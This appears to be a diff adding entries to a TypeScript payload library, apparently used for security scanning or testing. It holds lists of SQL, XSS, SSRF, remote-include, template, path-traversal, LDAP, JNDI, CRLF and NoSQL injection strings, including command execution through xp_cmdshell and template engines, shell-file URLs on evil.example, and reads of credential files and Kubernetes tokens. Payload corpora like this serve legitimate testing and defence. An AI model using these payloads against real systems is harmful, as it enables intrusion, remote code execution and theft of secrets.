@@ -45,6 +45,12 @@ export const SQLI: readonly string[] = [
   '0x50 OR 1=1', "1' WAITFOR DELAY '00:00:10'--", '`) OR 1=1 -- ',
   '" OR "1"="1" --', '1 or sleep(5)#', '" or sleep(5)="',
   "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#", '-1 UNION SELECT 1,2,LOAD_FILE(0x2f6574632f706173737764)',
+  "' AND 1=1 AND 'a'='a", '1 AND (SELECT 1)=1', "'||(SELECT version())||'",
+  "' + (SELECT TOP 1 name FROM sysobjects) + '", '1 /*!UNION*/ /*!SELECT*/ 1,2', '1)) AND ((1=1',
+  "' or 1#", '"or"1"="1', "'=0--+",
+  "-1' union select 1,2,3#", "1; exec master..xp_cmdshell 'ping 10.0.0.1'--", "1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
+  "') or true--", '"; select * from users; --', "1 limit 1 into outfile '/tmp/x'",
+  "x' mod id--",
 ];
 
 export const XSS: readonly string[] = [
@@ -87,6 +93,10 @@ export const XSS: readonly string[] = [
   '<img src=x onerror=window.onerror=alert;throw 1>', '<a id=x tabindex=1 onfocusin=alert(1)></a>', '<svg><animatetransform onbegin=alert(1)>',
   "'-alert(1)-'", '</script><img src=x onerror=alert(1)>', '<img src=x onerror=alert(document.domain)//',
   '<ScRipT>prompt(1)</ScRipT>', '<iframe src="http://evil.example/phish" style="position:fixed;top:0;left:0;width:100%;height:100%">',
+  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<img srcset=",,,,,x" onerror=alert(1)>', '<form action="javascript:alert(1)"><input type=submit>', '<table background="javascript:alert(1)">',
+  '<iframe src=javas&Tab;cript:alert(1)>', '<svg onload=eval(location.hash.slice(1))>', '<script>{onerror=alert}throw 1</script>',
+  '<img src=x onerror=alert?.(1)>', '<img src=x onerror=self["\\x61lert"](1)>',
 ];
 
 export const SSRF: readonly string[] = [
@@ -107,11 +117,15 @@ export const SSRF: readonly string[] = [
   'http://localhost%00.evil.example/', 'http://127.0.0.1:6379/', 'http://spoofed.burpcollaborator.net',
   'gopher://127.0.0.1:3306/_', 'http://[::ffff:127.0.0.1]/', 'http://%31%32%37%2e%30%2e%30%2e%31/',
   'http://127.127.127.127/', 'http://0177.1/', 'http://customer1.app.localhost/',
+  'http://127.0.0.1:80@evil.example/', 'http://evil.example#@127.0.0.1/', 'http://[::ffff:7f00:1]/',
+  'http://[0000::1]/', 'file://localhost/etc/passwd', 'http://127.0.0.1:8080/actuator/env',
+  'http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/', 'localhost4/admin',
 ];
 
 export const RFI: readonly string[] = [
   'http://evil.example/shell.txt?', 'http://203.0.113.7/x.php', '\\\\10.0.0.5\\share\\x.php', 'ftp://evil.example/x.txt',
   'https://198.51.100.9/c99.txt?', 'http://evil.example/inc.php%00', '//203.0.113.7/shell.txt', 'http://evil.example/r57.txt??',
+  '//203.0.113.7/shell.txt',
 ];
 
 export const SSTI: readonly string[] = [
@@ -136,6 +150,9 @@ export const SSTI: readonly string[] = [
   '{% debug %}', '{{ request.environ }}', "${__import__('os').popen('id').read()}",
   '[#assign x="freemarker.template.utility.Execute"?new()]${x("id")}', '{{#each this}}{{@key}}{{/each}}', "${'a'.getClass().forName('java.lang.Runtime')}",
   "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
+  '{{self.__class__.__mro__}}', '${T(java.lang.System).getenv()}', "#{T(java.lang.Runtime).getRuntime().exec('id')}",
+  "{{''|attr('__class__')}}", "<%= Dir.entries('/') %>", '{{ [].class.base.subclasses() }}',
+  '<% if True %>49<% endif %>', '@(7*7)',
 ];
 
 export const TRAVERSAL: readonly string[] = [
@@ -154,6 +171,8 @@ export const TRAVERSAL: readonly string[] = [
   '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd', '\\\\..\\\\..\\\\..\\\\windows\\\\system.ini',
   '/var/log/nginx/access.log', '/proc/version', '/etc/group',
   'WEB-INF/classes/application.properties', '....//....//....//....//etc//passwd',
+  '..%2f..%2f..%2fetc/passwd%00', '/..%252f..%252f..%252fetc/passwd', '/proc/1/environ',
+  '/var/run/secrets/kubernetes.io/serviceaccount/token', '../../../../../../windows/system32/config/sam',
 ];
 
 export const LDAP: readonly string[] = [
@@ -162,6 +181,7 @@ export const LDAP: readonly string[] = [
   'admin)(|(description=*', '*)(|(cn=admin)(cn=*))', '(&(objectClass=user)(|(cn=*)))',
   '*)(objectClass=*', 'admin)(|(password=*)', '*)(|(&',
   'pwd)(|(pwd=*', '*)(uid=*',
+  '*)(|(cn=*', 'admin))(|(|',
 ];
 
 export const JNDI: readonly string[] = [
@@ -175,6 +195,7 @@ export const JNDI: readonly string[] = [
   '${jndi:ldap://127.0.0.1:1389/Basic/Command/Base64/aWQ=}', '${${lower:jndi}:${lower:rmi}://x.example/a}', '${${::-j}ndi:${::-l}${::-d}${::-a}${::-p}://x.example/a}',
   '$%7Bjndi:ldap://x.example/a%7D', '${jndi:ldap://x.example/a}${jndi:dns://x.example}', '${${lower:${lower:jndi}}:${lower:rmi}://x.example/a}',
   '${jndi:ldap://x.example:1389/a?${env:PATH}}',
+  '${j${::-n}di:ldap://x.example/a}', '${${upper:J}${upper:N}${upper:D}${upper:I}:ldap://x.example/a}', '${jn${env:X:-d}i:ldap://x.example/a}',
 ];
 
 export const CRLF: readonly string[] = [
@@ -184,6 +205,7 @@ export const CRLF: readonly string[] = [
   'test%0d%0aSet-Cookie:%20admin=true', '%E5%98%8A%E5%98%8DLocation:%20http://evil.example', 'x\r\nTransfer-Encoding: chunked',
   '%0d%0aLocation:%20http://evil.example', '%0aSet-Cookie:crlf=injection', '\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>',
   '%23%0dSet-Cookie:x=1', '%3f%0d%0aLocation:%0d%0aContent-Type:text/html%0d%0aX-XSS-Protection%3a0%0d%0a%0d%0a%3Cscript%3Ealert%28document.domain%29%3C/script%3E', '/%0D%0ASet-Cookie:mycookie=myvalue',
+  '\\r\\n\\tSet-Cookie: x=1', '%0d%0a%0d%0a<html>injected</html>',
 ];
 
 /** NoSQL: objects sent as JSON or as a bracketed query string, and strings for a $where / JS string context. */
@@ -203,6 +225,7 @@ export const NOSQL_STRINGS: readonly string[] = [
   "admin' || 'a'=='a", '[$ne]=1', "'; db.dropDatabase(); '", "1; return this.isAdmin == true", '{"$where": "sleep(100)"}',
   '{"$gt": ""}', "true, $where: '1 == 1'", "'; return '' == '",
   '{"$regex": "^a"}', '[$regex]=.*', "'||'a'=='a",
+  "';return 'a'=='a' && ''=='", "1, $where: '1'=='1'",
 ];
 
 /** XXE: whole documents. */
